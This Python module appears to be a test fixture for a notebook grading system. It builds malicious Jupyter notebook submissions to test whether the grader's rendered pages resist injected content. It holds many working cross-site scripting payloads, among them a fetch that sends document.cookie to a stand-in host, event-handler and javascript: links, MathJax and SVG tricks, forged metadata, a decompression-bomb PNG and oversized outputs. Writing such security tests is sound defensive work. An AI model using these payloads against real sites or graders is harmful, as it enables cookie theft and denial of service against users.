"""Submissions that try to hurt whoever looks at them, by name: each changes a graded notebook."""

from __future__ import annotations

import base64
import io
import zlib
from collections.abc import Callable
from typing import Any

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

Change = Callable[[Any], None]

RUN = "window.pwned=(window.pwned||0)+1;fetch('http://tracker.invalid/'+document.cookie)"
SCRIPT = f"<script>{RUN}</script>"
IMG = f'<img src=x onerror="{RUN}">'
COVER = '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999">pay</div>'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="{RUN}"><script>{RUN}</script></svg>'
ELSEWHERE = '<img src="http://tracker.invalid/pixel.png"><link rel="stylesheet" href="http://tracker.invalid/x.css">'


def shows(data: dict[str, Any], **metadata: Any) -> Change:
    """A cell in front of everything, whose output is `data`."""
    output = new_output("display_data", data, metadata=metadata)
    return lambda notebook: notebook.cells.insert(0, new_code_cell("x", outputs=[output]))


def says(markdown: str, **more: Any) -> Change:
    """A cell of prose in front of everything, and the same in the written answer."""

    def change(notebook: Any) -> None:
        notebook.cells.insert(0, new_markdown_cell(markdown, **more))
        task = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "task-cost")
        task.source = markdown

    return change


def forged_ids(notebook: Any) -> None:
    """nbgrader writes a cell's grade id into its page as it stands."""
    graded = {"grade": True, "solution": True, "locked": False, "task": False, "schema_version": 3, "points": 1}
    for attack in (f'x">{IMG}', f"x</code>{SCRIPT}"):
        own = {"nbgrader": graded | {"grade_id": attack}}
        notebook.cells.insert(0, new_markdown_cell("hello", metadata=own))


def forged_metadata(notebook: Any) -> None:
    """Everything else that a template or the feedback reads of a notebook."""
    cell = new_code_cell("x")
    cell["id"] = f'"><{SCRIPT}'
    cell.metadata |= {"tags": [f'"><{SCRIPT}'], "name": SCRIPT, "collapsed": SCRIPT}
    cell.execution_count = SCRIPT  # not valid, but read all the same
    cell.metadata["aitracks"] = {"answer": SCRIPT, "outcomes": [{"title": {"zh": SCRIPT, "en": SCRIPT}}]}
    notebook.cells.insert(0, cell)
    notebook.metadata["title"] = notebook.metadata["authors"] = SCRIPT
    notebook.metadata["language_info"] = {"name": SCRIPT, "pygments_lexer": SCRIPT}
    state = {"state": {"a": {"model_name": "HTMLModel", "state": {"value": SCRIPT}}}}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}


def forged_verdict(notebook: Any) -> None:
    """HTML in what the engine quotes of the learner: titles are ours, messages may hold what a function returned."""
    check = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "check-fit")
    for told in check.metadata["aitracks"]["outcomes"]:
        told["message"] = {"zh": SCRIPT + IMG + COVER, "en": SCRIPT + IMG + COVER}
    check.outputs[0].data["text/html"] = f"<div>1.5 {SCRIPT}{IMG}{COVER}</div>"


def answers(notebook: Any) -> None:
    """HTML in the code itself, in the written answer, in what a cell printed, and in an error."""
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = f'"""</code></pre>{SCRIPT}{IMG}{COVER}"""\n%%html\n{SCRIPT}\n' + cell.source
    raised = new_output("error", ename=SCRIPT, evalue=IMG, traceback=[f"\x1b[31m{SCRIPT}\x1b[0m", IMG])
    loud = new_output("stream", text=f"\x1b[41m</pre>{SCRIPT}{IMG}\x1b]8;;javascript:{RUN}\x07link\x1b]8;;\x07")
    notebook.cells.insert(0, new_code_cell(SCRIPT, outputs=[loud, raised]))


def raw(notebook: Any) -> None:
    """Raw cells go into a page as they are."""
    notebook.cells.insert(0, new_raw_cell(SCRIPT + IMG + COVER, metadata={"raw_mimetype": "text/html"}))
    notebook.cells.insert(0, new_raw_cell(SCRIPT + IMG + COVER))


def huge(notebook: Any) -> None:
    """More than a browser likes to show."""
    text = new_output("stream", text="A very long line. " * 500_000)
    table = new_output("display_data", {"text/html": f"<table>{'<tr><td>1</td></tr>' * 100_000}</table>"})
    deep = new_output("display_data", {"text/html": "<div>" * 100_000 + "end"})
    notebook.cells.insert(0, new_code_cell("x", outputs=[text, table, deep]))
    notebook.cells.insert(0, new_markdown_cell("> " * 5_000 + "deep"))
    notebook.cells.insert(0, new_markdown_cell("[" * 9_000 + "$" * 9_000))


def big_picture() -> bytes:
    """A PNG of some kilobytes that unpacks into 100000 × 100000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    size = (100_000).to_bytes(4, "big")
    head = chunk(b"IHDR", size + size + b"\x01\x00\x00\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1_000_000))) + chunk(b"IEND", b"")


def wide_picture() -> bytes:
    """A sound picture, larger than any screen."""
    from PIL import Image

    file = io.BytesIO()
    Image.new("RGB", (3000, 2000), "red").save(file, "PNG")
    return file.getvalue()


def encoded(content: bytes) -> str:
    """Base64, as notebooks keep pictures."""
    return base64.b64encode(content).decode()


PAYLOADS: dict[str, Change] = {
    "html_script": shows({"text/html": SCRIPT}),
    "html_handler": shows({"text/html": IMG + f'<details open ontoggle="{RUN}">x</details>'}),
    "html_cover": shows({"text/html": f"<style>body{{display:none}}</style>{COVER}"}),
    "html_form": shows(
        {"text/html": f'<form action="http://tracker.invalid/"><input name=p autofocus onfocus="{RUN}"></form>'}
    ),
    "html_refresh": shows({"text/html": '<meta http-equiv="refresh" content="0;url=http://tracker.invalid/">'}),
    "html_frame": shows(
        {
            "text/html": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="http://tracker.invalid/">'
        }
    ),
    "html_elsewhere": shows({"text/html": ELSEWHERE + '<base href="http://tracker.invalid/">'}),
    "html_clobber": shows({"text/html": '<a id="formgrader" name="MathJax"></a><input class="score" id="check-fit">'}),
    "html_mutation": shows(
        {
            "text/html": "<math><mtext><table><mglyph><style><!--</style>"
            f'<img title="--&gt;{IMG}">{SCRIPT}</table></math>'
        }
    ),
    "html_isolated": shows({"text/html": f"<script>parent.{RUN}</script>"}, **{"text/html": {"isolated": True}}),
    "svg": shows({"image/svg+xml": SVG}),
    "javascript": shows({"application/javascript": RUN}),
    "widget": shows({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{SCRIPT}"}}),
    "picture_of_html": shows({"image/png": f'"><script>{RUN}</script>', "image/jpeg": encoded(SVG.encode())}),
    "picture_attributes": shows({"image/png": encoded(wide_picture())}, width=f"1 onload={RUN}", unconfined=True),
    "picture_bomb": shows({"image/png": encoded(big_picture())}),
    "markdown_output": shows({"text/markdown": f"{SCRIPT}\n\n{IMG}\n\n[x](javascript:{RUN})"}),
    "latex_output": shows({"text/latex": rf"$\href{{javascript:{RUN}}}{{x}}$ {SCRIPT}"}),
    "markdown_html": says(f"{SCRIPT}\n\n{IMG}\n\n{COVER}\n\n{ELSEWHERE}"),
    "markdown_links": says(f"[x](javascript:{RUN}) <javascript:{RUN}> ![y](http://tracker.invalid/p.png) [r]: ../../x"),
    "markdown_attachment": says(
        "![x](attachment:a.svg) ![y](attachment:missing.png)",
        attachments={"a.svg": {"image/svg+xml": encoded(SVG.encode())}},
    ),
    "markdown_mermaid": says(f"```mermaid\ngraph TD; A[{IMG}]\n```\n{SCRIPT}"),
    "mathjax": says(
        r"$\require{action}\href{javascript:window.pwned=1}{x} \cssId{notebook}{y} \class{navbar-fixed-top}{z} "
        r"\style{position:fixed;top:0;left:0;background:red;width:100vw;height:100vh}{w} \rule{900em}{900em}$ "
        r"$\def\a{\a\a}\a$ $\unicode{x3c}\text{<img src=x onerror=window.pwned=1>}$"
    ),
    "bidi": says("access \u202e\u2066 level\u2069 \u0301" + "\u0489" * 3000),
    "forged_ids": forged_ids,
    "forged_metadata": forged_metadata,
    "forged_verdict": forged_verdict,
    "answers": answers,
    "raw": raw,
    "huge": huge,
}
